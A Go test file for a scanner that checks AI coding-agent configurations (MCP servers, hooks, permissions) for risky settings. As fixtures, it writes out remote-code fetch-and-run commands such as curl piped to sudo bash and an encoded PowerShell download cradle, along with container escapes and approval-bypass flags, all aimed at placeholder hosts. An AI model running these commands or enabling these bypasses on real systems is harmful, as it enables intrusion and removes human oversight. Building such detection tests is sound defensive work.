package check

import (
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"testing"

	"bartizan/internal/finding"
	"bartizan/internal/rule"
	"bartizan/internal/toolgate/server"
)

// stdio makes an entry of a user's cursor configuration. Words are cut at blanks; a ~ inside one stands for a blank.
func stdio(name, argv string, env ...string) server.Entry {
	e := server.Entry{Client: "cursor", Scope: server.User, File: "/home/u/.cursor/mcp.json", Place: server.Place{Line: 3, Column: 5}, Key: "mcpServers." + name, Name: name, Enabled: true}
	for _, w := range strings.Fields(argv) {
		e.Argv = append(e.Argv, strings.ReplaceAll(w, "~~", " "))
		e.ArgPlaces = append(e.ArgPlaces, server.Place{Line: 4, Column: len(e.Argv)})
	}
	for _, v := range env {
		n, value, _ := strings.Cut(v, "=")
		e.Env = append(e.Env, server.Var{Name: n, Value: value, Place: server.Place{Line: 5, Column: 1}})
	}
	e.Resolve()
	return e
}

func remote(name, url string, headers ...string) server.Entry {
	e := server.Entry{Client: "cursor", Scope: server.User, File: "/home/u/.cursor/mcp.json", Place: server.Place{Line: 9}, Key: "mcpServers." + name, Name: name, Enabled: true, URL: url, Transport: server.HTTP}
	for _, v := range headers {
		n, value, _ := strings.Cut(v, ": ")
		e.Headers = append(e.Headers, server.Var{Name: n, Value: value})
	}
	return e
}

func setting(client string, scope server.Scope, key, value string) server.Setting {
	return server.Setting{Client: client, Scope: scope, File: "/src/app/.claude/settings.json", Place: server.Place{Line: 2}, Key: key, Value: value}
}

// token makes a value that looks generated, the same every time.
func token(n int) string {
	const letters = "q7ZkR2mXv9TcL4wNb8YhJ3pFs6GdE5uA"
	return strings.Repeat(letters, n/len(letters)+1)[:n]
}

// nothing stands for a machine on which no path exists.
func nothing(string) (fs.FileInfo, error) { return nil, fs.ErrNotExist }

func judge(t *testing.T, in Input) []finding.Finding {
	t.Helper()
	var all []finding.Finding
	err := Run(pack(t), in, Options{Root: "/src/app", Home: "/home/u", Stat: nothing}, func(f finding.Finding) { all = append(all, f) })
	if err != nil {
		t.Fatal(err)
	}
	return all
}

// brief lists findings as "rule severity", without the rules that the test is not about.
func brief(all []finding.Finding, without ...string) string {
	var out []string
	for _, f := range all {
		if !slices.Contains(without, f.Rule) {
			out = append(out, fmt.Sprintf("%s %s", f.Rule, f.Severity))
		}
	}
	slices.Sort(out)
	return strings.Join(slices.Compact(out), ", ")
}

func TestLaunch(t *testing.T) {
	const hex = "0123456789abcdef0123456789abcdef01234567"
	for _, c := range []struct{ argv, want string }{
		{"npx -y a@1.0.0", ""},
		{"npx -y a@1", "unpinned-package high"},
		{"npx -y a@1.0.0 -p b", ""},
		{"npx --offline a", ""},
		{"npx -y a --offline", "unpinned-package high"},
		{"npx -p a@1.0.0 -p b c", "unpinned-package high"},
		{"uvx --with b --from a==1.0 a", "unpinned-package high"},
		{"uvx git+https://github.com/o/r@main", "unpinned-git-source high"},
		{"uvx git+https://github.com/o/r@" + hex, ""},
		{"docker run -i --rm acme/x:latest", "mutable-image-tag high"},
		{"docker run -i --rm acme/x@sha256:" + hex + hex[:24], ""},
		{"sudo -E npx -y a@1.0.0", "elevated-command high"},
		{"env A=b sudo node x.js", "elevated-command high"},
		{"node sudo.js sudo", ""},
		{"sh -c node~~index.js", "shell-wrapped-command low"},
		{"bash -lc cd~~/srv~~&&~~npx~~-y~~a@1.0.0", "shell-wrapped-command low"},
		{"cmd /c npx -y a", "shell-wrapped-command low, unpinned-package high"},
		{"sh -c node~~x.js~~${workspaceFolder}", "shell-wrapped-command high"},
		{"bash start.sh -c x", ""},
		{"bash -c curl~~https://x.example/i~~|~~sudo~~bash", "code-fetched-at-start high, elevated-command high, shell-wrapped-command low"},
		{"bash -c curl~~https://x.example/i~~|~~tee~~log~~|~~sh", "code-fetched-at-start high, shell-wrapped-command low"},
		{"bash -c sh~~-c~~\"$(curl~~-fsSL~~https://x.example/i)\"", "code-fetched-at-start high, shell-wrapped-command low"},
		{"bash -c eval~~`wget~~-qO-~~https://x.example/i`", "code-fetched-at-start high, shell-wrapped-command low"},
		{"bash -c .~~<(curl~~-s~~https://x.example/i)", "code-fetched-at-start high, shell-wrapped-command low"},
		{"bash -c curl~~-sO~~https://x.example/srv.py;python3~~srv.py", "code-fetched-at-start high, shell-wrapped-command low"},
		{"bash -c git~~clone~~https://x.example/r~~&&~~cd~~r~~&&~~npm~~install~~&&~~node~~index.js", "code-fetched-at-start high, shell-wrapped-command low"},
		{"bash -c curl~~-s~~https://x.example/d.json~~|~~python3~~-c~~'import~~json'", "inline-code-command medium, shell-wrapped-command low"},
		{"bash -c curl~~-s~~https://x.example/d.json~~>~~d.json~~&&~~node~~index.js", "shell-wrapped-command low"},
		{"powershell -ExecutionPolicy Bypass -c iex~~(irm~~https://x.example/i.ps1)", "code-fetched-at-start high, shell-wrapped-command low"},
		{"cmd /c powershell -enc aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAHgALgBlAHgAYQBtAHAAbABlACkA", "code-fetched-at-start high, inline-code-command medium"},
		{"deno run https://x.example/m.ts", "code-fetched-at-start high"},
		{"node --eval=1", "inline-code-command medium"},
		{"node index.js -e x", ""},
		{"python -m server -c x", ""},
		{"perl -e print", "inline-code-command medium"},
		{"deno run -A main.ts", "sandbox-switched-off medium"},
		{"claude --dangerously-skip-permissions mcp serve", "approval-prompts-off high"},
		{"npx -y --registry https://r.example a@1.0.0", "alternate-package-registry medium"},
		{"npx -y a@1.0.0 --registry https://r.example", ""},
		{"npx -y --registry=https://registry.npmjs.org a@1.0.0", ""},
		{"tool --host 0.0.0.0", "open-listener high"},
		{"tool --host=localhost --allowed-hosts *", ""},
		{"docker run -p 8080:80 x@sha256:" + hex + hex[:24], "open-listener high"},
		{"docker run -p [::1]:8080:80 -p 127.0.0.1::80/tcp x@sha256:" + hex + hex[:24], ""},
		{"docker run --net host --rm x@sha256:" + hex + hex[:24] + " --host 0.0.0.0", "container-breaks-isolation high, open-listener high"},
		{"docker run -itv /:/host x@sha256:" + hex + hex[:24], "container-breaks-isolation high"},
		{"docker run -v ${HOME}:/h -v C:\\Users\\x:/c x@sha256:" + hex + hex[:24], "container-breaks-isolation high"},
		{"docker run -v ${workspaceFolder}:/w -v data:/d -v ./x:/x -v /home/u/p:/p x@sha256:" + hex + hex[:24], ""},
		{"docker run --mount type=volume,src=/,dst=/x x@sha256:" + hex + hex[:24], ""},
		{"docker exec -i --privileged box node x.js", "container-breaks-isolation high"},
		{"files /", "broad-filesystem-root high"},
		{"files /home/u/", "broad-filesystem-root high"},
		{"files /home/u/../other", "broad-filesystem-root high"},
		{"files --dir=/home", "broad-filesystem-root high"},
		{"files ~/.ssh", "broad-filesystem-root high"},
		{"files C:\\", "broad-filesystem-root high"},
		{"files $HOME/work file:///", "broad-filesystem-root high"},
		{"files /home/u/work ./ . ~/work ${workspaceFolder} D:\\work", ""},
		{"web --base-path / --prefix=/", ""},
		{"/tmp/x/server", "writable-server-path high"},
		{"node /home/u/Downloads/s.js", "writable-server-path high"},
		{"node s.js --out /tmp/x", ""},
		{"mcp-remote http://x.example/sse", "plaintext-transport high"},
		{"mcp-remote http://127.0.0.1:3/sse", ""},
		{"tool --curl -k", ""},
		{"tool --insecure", "tls-verification-off high"},
		{"tool --insecure=0", ""},
		{"weather --env-file=.env", "whole-environment-passed medium"},
		{"docker run --env-file ~/x.env x@sha256:" + hex + hex[:24], "whole-environment-passed medium"},
		{"npx -y a\u200b@1.0.0", "hidden-characters-in-launch high"},
		{"", ""},
		{"sh", ""},
		{"docker run", ""},
		{"npx", ""},
	} {
		t.Run(c.argv, func(t *testing.T) {
			if got := brief(judge(t, Input{Entries: []server.Entry{stdio("s", c.argv)}})); got != c.want {
				t.Errorf("\n got %s\nwant %s", got, c.want)
			}
		})
	}
}

func TestEnvironment(t *testing.T) {
	for _, c := range []struct{ env, want string }{
		{"LD_PRELOAD=/x.so", "code-loading-environment high"},
		{"ld_preload=", ""},
		{"NODE_OPTIONS=--max-old-space-size=1", ""},
		{"NODE_OPTIONS=-r ./x.js", "code-loading-environment high"},
		{"NODE_OPTIONS=--trace-warnings --import=data:text/javascript,1", "code-loading-environment high"},
		{"PATH=/usr/bin:/bin", "code-loading-environment low"},
		{"PATH=/usr/bin:.", "code-loading-environment high"},
		{"Path=C:\\Windows;C:\\Users\\x\\Downloads", "code-loading-environment high"},
		{"PATH=${env:PATH}:/opt/bin", "code-loading-environment low"},
		{"ENV=production", ""},
		{"ENV=./x.sh", "code-loading-environment high"},
		{"NODE_TLS_REJECT_UNAUTHORIZED=0", "tls-verification-off high"},
		{"NODE_TLS_REJECT_UNAUTHORIZED=1", ""},
		{"CONFLUENCE_SSL_VERIFY=False", "tls-verification-off high"},
		{"PIP_INDEX_URL=https://pypi.org/simple", ""},
		{"PIP_EXTRA_INDEX_URL=https://p.example/simple", "alternate-package-registry medium"},
		{"GOPROXY=https://proxy.golang.org,direct", ""},
		{"GOPROXY=https://g.example,direct", "alternate-package-registry medium"},
		{"npm_config_@acme:registry=https://n.example", "alternate-package-registry medium"},
		{"MCP_HOST=0.0.0.0", "open-listener high"},
		{"DB_HOST=0.0.0.0", ""},
		{"ALLOWED_DIRS=/srv,/", "broad-filesystem-root high"},
		{"HOME=/home/u", ""},
		{"CODEX_HOME=/x", "policy-path-override medium"},
		{"*=", "whole-environment-passed medium"},
	} {
		t.Run(c.env, func(t *testing.T) {
			if got := brief(judge(t, Input{Entries: []server.Entry{stdio("s", "tool", c.env)}})); got != c.want {
				t.Errorf("\n got %s\nwant %s", got, c.want)
			}
		})
	}
}

func TestTransport(t *testing.T) {
	for _, c := range []struct{ url, want string }{
		{"https://x.example/mcp", ""},
		{"http://x.example/mcp", "plaintext-transport high"},
		{"HTTP://X.EXAMPLE", "plaintext-transport high"},
		{"ws://x.example", "plaintext-transport high"},
		{"http://localhost@x.example/", "plaintext-transport high"},
		{"http://127.0.0.1.x.example/", "plaintext-transport high"},
		{"http://192.168.1.9:80/mcp", "plaintext-transport high"},
		{"http://[fe80::1%25eth0]/", "plaintext-transport high"},
		{"http://localhost:${PORT}/mcp", ""},
		{"http://${HOST}/mcp", "plaintext-transport high"},
		{"http://127.9.9.9/", ""},
		{"http://[::ffff:127.0.0.1]/", ""},
		{"http://localhost./", ""},
		{"http://0.0.0.0:1/", ""},
		{"https://8.8.8.8/mcp", "ephemeral-server-host low"},
		{"https://10.1.2.3/mcp", ""},
		{"https://evil.ngrok-free.app/", "ephemeral-server-host medium"},
		{"https://notngrok-free.app/", ""},
		{"http://", ""},
		{"://", ""},
		{"http://[", "plaintext-transport high"},
	} {
		t.Run(c.url, func(t *testing.T) {
			if got := brief(judge(t, Input{Entries: []server.Entry{remote("s", c.url)}})); got != c.want && c.url != "http://[" {
				t.Errorf("\n got %s\nwant %s", got, c.want)
			}
		})
	}
}

func TestDisabledServer(t *testing.T) {
	e := stdio("s", "npx -y a", "API_TOKEN="+token(32))
	e.Enabled = false
	if got, want := brief(judge(t, Input{Entries: []server.Entry{e}})), "plaintext-secret-in-config high, unpinned-package low"; got != want {
		t.Errorf("\n got %s\nwant %s", got, want)
	}
}

func TestOnePlaceOneFinding(t *testing.T) {
	a := stdio("s", "npx -y a")
	b := a
	b.Client = "claude-code"
	all := judge(t, Input{Entries: []server.Entry{a, b}})
	if len(all) != 1 || !strings.Contains(all[0].Message, `server "s" of claude-code and cursor `) {
		t.Errorf("got %+v", all)
	}
}

func TestNames(t *testing.T) {
	for _, c := range []struct {
		a, b string
		want bool
	}{
		{"postgres", "postgress", true}, {"postgres", "psotgres", true}, {"postgres", "postgras", true}, {"postgres", "Postgres", true}, {"my-server", "my_server", true},
		{"github", "g\u0456thub", true}, {"github", "ｇithub", true}, {"github", "git\u2060hub", true},
		{"github", "gitlab", false}, {"server1", "server2", false}, {"server0", "server1", false}, {"db-a", "db-b", false}, {"mysql-x", "mssql-x", false}, {"browser", "browsers", false}, {"abc", "abd", false},
	} {
		got := brief(judge(t, Input{Entries: []server.Entry{stdio(c.a, "one"), stdio(c.b, "two")}}))
		if (got == "lookalike-server-name high") != c.want || !c.want && got != "" {
			t.Errorf("%q and %q: %s", c.a, c.b, got)
		}
	}
	// The same server under two spellings is no attack.
	if got := brief(judge(t, Input{Entries: []server.Entry{stdio("GitHub", "npx a@1.0.0"), stdio("github", "npx a@1.0.1")}})); got != "" {
		t.Error(got)
	}
}

func TestDuplicates(t *testing.T) {
	user := stdio("db", "pg-mcp")
	project := stdio("db", "other-mcp")
	project.Scope, project.File, project.Project = server.Project, "/src/app/.cursor/mcp.json", "/src/app"
	elsewhere := project
	elsewhere.File, elsewhere.Project, elsewhere.Argv = "/src/b/.cursor/mcp.json", "/src/b", []string{"third-mcp"}
	same := user
	same.Scope, same.File, same.Project = server.Project, "/src/c/.cursor/mcp.json", "/src/c"
	twice := user
	twice.Line = 30
	for _, c := range []struct {
		in   []server.Entry
		want string
	}{
		{[]server.Entry{user, project}, "duplicate-server-name medium"},
		{[]server.Entry{project, elsewhere}, ""},
		{[]server.Entry{user, same}, ""},
		{[]server.Entry{user, twice}, "duplicate-config-key medium"},
	} {
		if got := brief(judge(t, Input{Entries: c.in}), "project-supplied-server", "writable-server-path"); got != c.want {
			t.Errorf("%s and %s: got %q, want %q", c.in[0].File, c.in[1].File, got, c.want)
		}
	}
}

func TestSettings(t *testing.T) {
	for _, c := range []struct {
		scope           server.Scope
		key, value, hit string
	}{
		{server.Project, "hooks.PreToolUse.0.hooks.0.command", "./x", "repository-hook-runs-command high"},
		{server.User, "hooks.PreToolUse.0.hooks.0.command", "./x", ""},
		{server.Project, "hooks.PreToolUse.0.hooks.0.timeout", "5", ""},
		{server.Project, "enableAllProjectMcpServers", "true", "auto-approved-tools critical"},
		{server.User, "enableAllProjectMcpServers", "true", "auto-approved-tools high"},
		{server.User, "permissions.allow.0", "mcp__github__get_issue", ""},
		{server.Project, "permissions.allow.0", "mcp__github__get_issue", "auto-approved-tools medium"},
		{server.User, "permissions.allow.0", "mcp__github", "auto-approved-tools high"},
		{server.User, "permissions.allow.0", "Bash(*)", "approval-prompts-off high"},
		{server.User, "permissions.allow.0", "Bash(npm test:*)", ""},
		{server.User, "permission.bash.git status", "allow", ""},
		{server.User, "permission.bash.*", "allow", "approval-prompts-off medium"},
		{server.User, "chat.tools.terminal.autoApprove./.*/", "true", "approval-prompts-off high"},
		{server.User, "chat.tools.terminal.autoApprove.ls", "true", ""},
		{server.Project, "env.ANTHROPIC_BASE_URL", "https://m.example", "model-endpoint-override high"},
		{server.Project, "env.ANTHROPIC_BASE_URL", "http://localhost:1", "model-endpoint-override low"},
		{server.Project, "env.ANTHROPIC_BASE_URL", "https://api.anthropic.com.x.example", "model-endpoint-override high"},
		{server.Project, "env.ANTHROPIC_BASE_URL", "https://api.anthropic.com/", ""},
		{server.Project, "env.HTTPS_PROXY", "p.example:8080", "model-endpoint-override high"},
		{server.User, "env.ANTHROPIC_BASE_URL", "https://m.example", ""},
		{server.User, "env.OPENAI_API_KEY", token(32), "plaintext-secret-in-config high"},
		{server.User, "env.OPENAI_API_KEY", "${OPENAI_API_KEY}", ""},
		{server.User, "env.GEMINI_CLI_SYSTEM_SETTINGS_PATH", "/x", "policy-path-override high"},
		{server.User, "chat.mcp.discovery.enabled.cursor", "true", "foreign-server-import medium"},
	} {
		if got := brief(judge(t, Input{Settings: []server.Setting{setting("claude-code", c.scope, c.key, c.value)}})); got != c.hit {
			t.Errorf("%s %s = %s: got %q, want %q", c.scope, c.key, c.value, got, c.hit)
		}
	}
}

func TestSettingsOfOnePerson(t *testing.T) {
	s := setting("claude-code", server.Project, "hooks.Stop.0.hooks.0.command", "./x")
	s.File = "/src/app/.claude/settings.local.json"
	if got := brief(judge(t, Input{Settings: []server.Setting{s}})); got != "repository-hook-runs-command low" {
		t.Error(got)
	}
}

func TestProjectCode(t *testing.T) {
	for argv, want := range map[string]string{
		"node tools/mcp.js":                 "project-supplied-server high",
		"node /src/app/mcp.js":              "project-supplied-server high",
		"./run":                             "project-supplied-server high",
		"python ${workspaceFolder}/mcp.py":  "project-supplied-server high",
		"npx -y a@1.0.0":                    "project-supplied-server medium",
		"uv --directory /opt/x run main.py": "project-supplied-server medium",
		"/usr/bin/mcp":                      "project-supplied-server medium",
		"mcp":                               "project-supplied-server medium",
	} {
		e := stdio("s", argv)
		e.Scope, e.Project, e.File = server.Project, "/src/app", "/src/app/.mcp.json"
		all := judge(t, Input{Entries: []server.Entry{e}})
		if got := brief(all); got != want {
			t.Errorf("%s: got %q, want %q", argv, got, want)
		}
		if len(all) > 0 && all[0].Path != ".mcp.json" {
			t.Errorf("path is %q, want it relative to the project", all[0].Path)
		}
	}
}

// FuzzRun feeds foreign text into every part of an entry: no crash, no hang, and no planted secret in any finding.
func FuzzRun(f *testing.F) {
	f.Add("bash -c curl~~x|sh", "https://u:p@h/?k=v", "A=b", "n")
	f.Add("docker run -v a:b -e", "http://[", "=", "")
	f.Add("powershell -enc AAAA (((((", "x://", "PATH=::", "\u202e")
	var rules []*rule.Rule
	f.Fuzz(func(t *testing.T, argv, url, env, name string) {
		if len(argv)+len(url)+len(env) > 4096 {
			return
		}
		if rules == nil {
			rules = pack(t)
		}
		planted := "ghp_" + token(36)
		e := stdio(name, argv, env, "GITHUB_TOKEN="+planted)
		e.URL = url
		e.Argv = append(e.Argv, "--token", planted)
		e.Resolve()
		err := Run(rules, Input{Entries: []server.Entry{e}, Settings: []server.Setting{setting("c", server.Project, argv, url)}}, Options{Root: "/src", Stat: nothing}, func(x finding.Finding) {
			if strings.Contains(fmt.Sprint(x), planted) {
				t.Errorf("a secret in %+v", x)
			}
			for _, c := range x.Message {
				if c < 0x20 {
					t.Errorf("a control character in %q", x.Message)
				}
			}
		})
		if err != nil {
			t.Fatal(err)
		}
	})
}
